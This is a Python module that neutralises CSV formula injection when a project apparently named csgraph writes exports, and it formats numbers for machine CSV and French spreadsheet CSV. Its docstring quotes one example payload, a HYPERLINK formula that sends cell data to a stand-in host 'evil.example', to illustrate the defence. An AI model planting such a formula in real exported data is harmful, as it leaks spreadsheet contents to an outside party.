"""CSV that a spreadsheet opens without running anything: one rule for every CSV csgraph writes.

A cell that starts with `=`, `+`, `-`, `@`, tab or carriage return is run as a formula by Excel and
LibreOffice (`=HYPERLINK("http://evil.example/?"&A1)` sends the sheet away); fiche text can start so
(`- 542 euros : participation des usagers`). As OWASP recommends, such a text cell is written with a
leading `'`, which spreadsheets take as "this is text" and do not show. The export tables, `query
--format csv`, the site's downloads all write their text cells through `neutral`.

A number is told apart by its type, never by its look: what the graph holds as a number (an
`xsd:integer`, `xsd:decimal`, `xsd:double` whose lexical form is a number), or a table's column of
numbers, is written as is, `-3` included; text that looks like a number (a title `-3`) is text and gets
its `'`, so a spreadsheet shows it exactly as written.

Two forms: the machine CSV (RFC 4180, `,`, `3.5`: the W3C SPARQL CSV results and the export tables) and
the spreadsheet CSV a French spreadsheet opens by a double click (UTF-8 with BOM, `;`, `3,5`, CRLF).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")

Cell = str | int | Decimal | None
"""A spreadsheet cell: text (neutralised when written), or a number (written with a decimal comma)."""


def neutral(text: str) -> str:
    """Text a spreadsheet would run as a formula, with a leading `'`; other text as it is."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def number_of(text: str) -> Decimal | None:
    """The number a numeric value writes (`-3`, `21280.00`, `1.5E2`); None for `INF`, `NaN` or text."""
    return Decimal(text) if NUMBER.fullmatch(text) else None


def machine_cell(text: str, numeric: bool) -> str:
    """A machine CSV cell: a number as written, any other text neutralised (an ill-typed `-=1` too)."""
    return text if numeric and number_of(text) is not None else neutral(text)


def spreadsheet_cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f").replace(".", ",")  # `f`: 1E+3 is written 1000
    return neutral(value)


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The spreadsheet form as one string (see `write_spreadsheet_csv`)."""
    stream = io.StringIO()
    write_spreadsheet_csv(stream, header, rows)
    return stream.getvalue()


def write_spreadsheet_csv(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> None:
    """The spreadsheet form, BOM first: Excel reads UTF-8 only with it, and `;` where `,` is the decimal.
    Written row by row, so that a national table never sits in memory as one string."""
    stream.write(BOM)
    writer = csv.writer(stream, delimiter=";", lineterminator="\r\n")
    writer.writerow(map(spreadsheet_cell, header))
    writer.writerows(map(spreadsheet_cell, row) for row in rows)
